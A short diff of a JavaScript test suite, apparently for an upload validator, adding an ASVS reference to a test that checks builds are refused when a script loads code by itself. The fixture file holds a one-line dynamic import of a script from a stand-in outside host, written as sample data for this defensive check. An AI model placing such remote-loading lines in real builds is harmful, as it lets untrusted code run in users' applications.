@@ -134,6 +134,7 @@ describe('an upload is refused, with nothing released,', () => {
     });
   });
 
+  // ASVS 1.3.2
   it('when a script loads code by itself', async () => {
     const files = { 'remoteEntry.js': 'void import("https://elsewhere.example/x.js");' };
     const wallet = await readAt(await writeBuild(uploads.lab.root, 'mfe-wallet', files));
